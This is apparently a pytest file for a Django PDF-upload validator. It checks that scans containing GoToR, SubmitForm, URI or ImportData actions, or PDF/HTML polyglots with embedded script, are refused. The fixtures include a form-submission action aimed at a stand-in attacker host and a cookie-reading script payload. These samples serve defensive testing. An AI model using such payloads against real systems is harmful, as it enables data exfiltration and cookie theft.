"""#31 item 8: the signature-scan check let through PDFs with GoToR, SubmitForm and URI actions, and a
"%PDF-" file that is also a web page with a script."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from agreements.models import validate_pdf_scan
from core import scans
from tests.tools import pdf_bytes


def pdf_with_action(kind: str, **fields: str) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in fields.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): writer._add_object(action),
        }
    )
    from pypdf.generic import ArrayObject

    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("kind", "fields"),
    [
        ("/GoToR", {"F": "other.pdf"}),
        ("/SubmitForm", {"F": "https://evil.example/collect"}),
        ("/URI", {"URI": "https://evil.example/"}),
        ("/ImportData", {"F": "data.fdf"}),
    ],
)
def test_a_scan_with_a_linking_or_sending_action_is_refused(kind, fields):
    content = pdf_with_action(kind, **fields)
    assert scans.active_content(io.BytesIO(content))
    with pytest.raises(ValidationError) as info:
        validate_pdf_scan(SimpleUploadedFile("s.pdf", content))
    assert info.value.code == "active_content"


def test_a_pdf_that_is_also_a_web_page_is_refused():
    polyglot = pdf_bytes().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<script>alert(document.cookie)</script>\n", 1)
    assert b"<script>" in polyglot
    with pytest.raises(ValidationError):
        validate_pdf_scan(SimpleUploadedFile("s.pdf", polyglot))
    bare = b"%PDF-<html><body><script>alert(1)</script></body></html>"
    with pytest.raises(ValidationError):
        validate_pdf_scan(SimpleUploadedFile("s.pdf", bare))


def test_a_plain_scan_passes():
    validate_pdf_scan(SimpleUploadedFile("s.pdf", pdf_bytes()))
